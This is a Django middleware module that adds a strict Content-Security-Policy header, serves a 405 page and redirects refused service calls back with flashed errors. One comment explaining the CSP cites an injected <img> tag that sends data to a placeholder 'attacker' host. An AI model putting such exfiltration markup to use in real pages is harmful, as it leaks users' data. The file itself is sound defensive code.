"""What applies to every page: response headers, and how a refused service call looks."""

from __future__ import annotations

from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import TypeVar

from django.contrib import messages
from django.http import Http404, HttpRequest, HttpResponse, HttpResponseRedirect
from django.shortcuts import render
from django.urls import reverse

from .exceptions import ServiceError
from .flash import section_tag

_View = TypeVar("_View", bound=Callable[..., HttpResponse])

# No inline scripts, no third-party hosts: model output is rendered into these pages, so
# an injected <script> or an exfiltrating <img src="https://attacker/?q=…"> must not run.
CONTENT_SECURITY_POLICY = "; ".join(
    [
        "default-src 'self'",
        "script-src 'self'",
        "style-src 'self'",
        "img-src 'self' data:",
        "connect-src 'self'",
        "font-src 'self'",
        "object-src 'none'",
        "base-uri 'self'",
        "form-action 'self'",
        "frame-ancestors 'none'",
    ]
)


class ContentSecurityPolicyMiddleware:
    def __init__(self, get_response: Callable[[HttpRequest], HttpResponse]) -> None:
        self.get_response = get_response

    def __call__(self, request: HttpRequest) -> HttpResponse:
        response = self.get_response(request)
        response.headers.setdefault("Content-Security-Policy", CONTENT_SECURITY_POLICY)
        return response


# API views never get here: DRF's handler (core.api.exception_handler) already
# turned their ServiceErrors into JSON, and its payloads are a contract.
API_PREFIX = "/api/"


class MethodNotAllowedPageMiddleware:
    """`require_POST` & co answer a GET with an empty 405: a person who opens such a URL
    (a bookmark, a reload after a form) gets the site's page saying so instead. The API
    keeps DRF's JSON, and the Allow header is kept."""

    def __init__(self, get_response: Callable[[HttpRequest], HttpResponse]) -> None:
        self.get_response = get_response

    def __call__(self, request: HttpRequest) -> HttpResponse:
        response = self.get_response(request)
        if (
            response.status_code != 405
            or response.streaming
            or response.content
            or request.path_info.startswith(API_PREFIX)
        ):
            return response
        page = render(request, "405.html", status=405)
        if "Allow" in response:
            page["Allow"] = response["Allow"]
        return page


@dataclass(frozen=True)
class _Back:
    to: str
    args: tuple[str, ...]
    anchor: str
    section: str

    def url(self, request: HttpRequest) -> str:
        view_kwargs = request.resolver_match.kwargs if request.resolver_match else {}
        url = reverse(self.to, kwargs={name: view_kwargs[name] for name in self.args})
        return f"{url}#{self.anchor}" if self.anchor else url


def errors_back_to(
    to: str, *, args: Sequence[str] = (), anchor: str = "", section: str | None = None
) -> Callable[[_View], _View]:
    """Where ServiceErrorMiddleware sends a person whose request a service refused: the
    page the form was on, with the reason flashed. `to` is a URL name, reversed with the
    view's own URL arguments named in `args`, then `#anchor` added. The message is tagged
    for `section` (the anchor unless given; see core.flash), so a page that renders its
    section messages in place shows it where the person is looking."""

    def mark(view: _View) -> _View:
        # functools.wraps copies __dict__, so the mark survives login_required & co.
        view.service_error_back = _Back(
            to, tuple(args), anchor, anchor if section is None else section
        )
        return view

    return mark


class ServiceErrorMiddleware:
    """What a person sees when a page's service refuses, so views need no try/except.

    A `NotFound` (or any ServiceError with status 404, as the API answers it) is the
    404 page: another user's object looks exactly like a missing one. Any other
    ServiceError from a view marked with `errors_back_to` is flashed and redirects back
    to its page (post/redirect/get). Unmarked views let it through as before; views that
    re-render a form with the typed text and the reason keep their own handler.
    """

    def __init__(self, get_response: Callable[[HttpRequest], HttpResponse]) -> None:
        self.get_response = get_response

    def __call__(self, request: HttpRequest) -> HttpResponse:
        return self.get_response(request)

    def process_exception(self, request: HttpRequest, exception: Exception) -> HttpResponse | None:
        if not isinstance(exception, ServiceError) or request.path_info.startswith(API_PREFIX):
            return None
        if exception.status_code == 404:
            # Raised here, Django renders it like an Http404 from the view (handler404).
            raise Http404(exception.text) from exception
        match = request.resolver_match
        back: _Back | None = getattr(match.func, "service_error_back", None) if match else None
        if back is None:
            return None
        tags = section_tag(back.section) if back.section else ""
        messages.error(request, exception.text, extra_tags=tags)
        return HttpResponseRedirect(back.url(request))
